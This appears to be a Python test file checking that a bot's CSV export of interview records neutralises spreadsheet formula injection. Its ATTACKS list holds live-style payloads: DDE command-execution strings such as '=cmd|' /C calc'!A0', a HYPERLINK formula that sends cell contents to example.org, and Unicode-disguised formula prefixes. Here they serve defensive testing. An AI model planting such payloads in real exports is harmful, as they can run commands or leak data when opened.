"""The record as a table, and as CSV that is read back cell by cell and never runs."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from bot.documents.table import COLUMNS, as_csv, harmless, rows
from dialogs.record import Participant, Record, RecordedAnswer
from storage.engine.unit_of_work import Store
from storage.record.reading import record
from tests.each import each
from tests.storage.people import INVITEE, LATER, REFERENCE, STORY, TOLD, consenting, invited

BARE = "=+-@\t\r\n\0"
WIDE = "＝＋－＠"
ATTACKS = [
    *(f"{sign}1+1" for sign in BARE + WIDE),
    *BARE,
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2068=1+1\u2069",
    "\x01=1+1",
    "﹦1+1",
    "−1",
]
HARMLESS = ["", "She sang", "1+1", "a=b", "'quoted'", "“=1+1”", "10:30", "مارغريت", " indented", "(-1)"]


SAID = RecordedAnswer(
    link_id="P2",
    section="P",
    question="What was she like?",
    text=("Kind",),
    language="en",
    channel="telegram",
    revision=1,
    superseded=False,
    answered_at=datetime(2026, 11, 23, 10, 17, tzinfo=UTC),
)


def table_of(*answers: RecordedAnswer, **changes: Any) -> Record:
    """A record of one participant."""
    told = Participant(
        invitation="i1",
        to="Ann",
        relationship="sister",
        language="en",
        channel="page",
        status="paused",
        answers=answers,
    )
    return Record(reference="LR-1", person="Margaret", participants=(replace(told, **changes),))


def read_back(text: str) -> list[list[str]]:
    """The cells of a CSV, by the rules of RFC 4180."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_one_row_an_answer(store: Store) -> None:
    made = invited(store)
    consenting(store, made).does(*TOLD)
    with store.read() as work:
        found = rows(record(work, REFERENCE, LATER))
    assert [row["link_id"] for row in found] == ["W3", "R1", "R2", "R3", "R4", "P1", "P2"]
    assert tuple(found[0]) == COLUMNS
    assert found[6] == {
        "reference": REFERENCE,
        "invitation": made.id,
        "to": INVITEE,
        "relationship": "sister",
        "link_id": "P2",
        "section": "P",
        "question": found[6]["question"],
        "codes": "",
        "text": f"{STORY}\n\n=1+1 was her favourite sum",
        "dates": "",
        "absent": "",
        "attachments": "",
        "language": "en",
        "channel": "telegram",
        "revision": "1",
        "superseded": "no",
        "answered_at": "2026-11-23T10:16:00+00:00",
        "doubted": "no",
    }
    assert (found[1]["codes"], found[2]["absent"]) == ("sibling", "skipped")


def test_what_was_forwarded_says_so() -> None:
    (row,) = rows(table_of(replace(SAID, text=("mine", "Tom's"), forwarded=(1,))))
    assert row["text"] == "mine\n\n[forwarded] Tom's"


def test_several_values_and_none() -> None:
    said = replace(SAID, text=(), codes=("heart", "pain"), dates=(date(2026, 3, 5), date(2026, 3, 6)), superseded=True)
    (row,) = rows(table_of(said, to=None))
    assert (row["codes"], row["dates"], row["superseded"], row["to"]) == (
        "heart, pain",
        "2026-03-05, 2026-03-06",
        "yes",
        "",
    )


def test_a_record_without_an_answer_has_its_columns() -> None:
    assert as_csv(table_of()) == ",".join(f'"{name}"' for name in COLUMNS) + "\r\n"


@each("cell", ATTACKS)
def test_what_could_be_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@each("cell", HARMLESS)
def test_what_could_not_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@each("separator", [",", ";", "\t"])
@each("words", ["hello;=1+41", 'a";=1+42;"b', "x\t=1+1", "a; -2", "a;\u200b@SUM(1)", 'a;"=1"'])
def test_a_list_that_is_read_with_another_separator_holds_no_formula(words: str, separator: str) -> None:
    written = as_csv(table_of(replace(SAID, text=(words,))))
    cells = [c for row in csv.reader(io.StringIO(written), delimiter=separator) for c in row]
    assert not [c for c in cells if re.match(r"[\s\"\u200b]*[=+@-]", c)]


@each("attack", ATTACKS)
def test_no_column_lets_a_formula_through(attack: str) -> None:
    said = replace(SAID, link_id=attack, section=attack, question=attack, language=attack, channel=attack)
    said = replace(said, text=(attack,), codes=(attack,))
    _, row = read_back(as_csv(table_of(said, to=attack, relationship=attack)))
    assert sum(cell == f"'{attack}" for cell in row) == 9


@given(st.lists(st.text(), min_size=1, max_size=3), st.text())
def test_every_cell_is_read_back_as_it_was_written(text: list[str], to: str) -> None:
    written = as_csv(table_of(replace(SAID, text=tuple(text)), to=to))
    header, row = read_back(written)
    cells = dict(zip(header, row, strict=True))
    assert cells["text"] == harmless("\n\n".join(text))
    assert cells["to"] == harmless(to)
    assert written.endswith("\r\n")
    assert not any(cell[:1] in set(BARE + WIDE) for cell in row if cell)
